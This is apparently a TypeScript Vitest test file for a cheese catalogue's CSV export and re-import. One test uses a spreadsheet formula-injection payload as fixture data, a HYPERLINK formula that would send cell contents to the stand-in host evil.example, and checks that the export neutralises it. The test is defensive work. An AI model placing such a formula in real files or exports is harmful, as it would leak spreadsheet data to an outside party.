import { describe, expect, it } from 'vitest';
import type { Cheese } from '@/domain/types';
import { parseCsv } from '../import/csv-parse';
import { autoMatch } from '@/domain/csv/mapping';
import { prepareRows } from '../import/prepare-rows';
import { cheesesToCsv, exportFileName } from './cheese-export';

const brie: Cheese = {
  id: '11111111-1111-4111-8111-111111111111', name: 'Brie, de Meaux', image_url: '/images/brie.jpg', type: 'Soft', milk: 'Cow',
  origin_country: 'France', origin_region: null, ageing_period: '4 weeks', description: 'Soft "bloomy" rind,\nbuttery inside',
  added_by: null, updated_by: null, created_at: '2026-01-02T03:04:05.000Z', updated_at: '2026-01-02T03:04:05.000Z', version: 1,
};

describe('cheese export', () => {
  it('writes the catalogue as CSV that the import wizard reads back unchanged', () => {
    const csv = cheesesToCsv([brie]);
    expect(csv.split('\r\n')[0]).toBe('name,type,milk,origin_country,origin_region,ageing_period,description,image_url,id,created_at');
    const p = parseCsv(csv);
    const r = prepareRows('cheeses', p.headers, p.rows, autoMatch(p.headers, 'cheeses'), null);
    expect(r.invalid).toEqual([]);
    expect(r.valid[0].payload).toEqual({
      name: brie.name, type: 'Soft', milk: 'Cow', origin_country: 'France', origin_region: null, ageing_period: '4 weeks',
      description: brie.description, image_url: brie.image_url,
    });
  });
  it('neutralises formula-like cells, and the import reads them back as typed', () => {
    const evil: Cheese = {
      ...brie, id: '22222222-2222-4222-8222-222222222222', name: '=HYPERLINK("http://evil.example/?leak="&A2,"Open")', 
      origin_region: '+33 Jura', origin_country: '@France', ageing_period: "'=already quoted", description: '-2 weeks in brine',
    };
    const csv = cheesesToCsv([evil]);
    const line = csv.split('\r\n')[1];
    expect(line.startsWith(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")",Soft,Cow,'@France,'+33 Jura,''=already quoted,'-2 weeks in brine,`)).toBe(true);
    const p = parseCsv(csv);
    const r = prepareRows('cheeses', p.headers, p.rows, autoMatch(p.headers, 'cheeses'), null);
    expect(r.invalid).toEqual([]);
    expect(r.valid[0].payload).toMatchObject({
      name: evil.name, origin_country: '@France', origin_region: '+33 Jura', ageing_period: "'=already quoted", description: '-2 weeks in brine',
    });
  });
  it('names the file by date', () => {
    expect(exportFileName(new Date('2026-11-21T23:00:00Z'))).toBe('cheeses-2026-11-21.csv');
  });
});
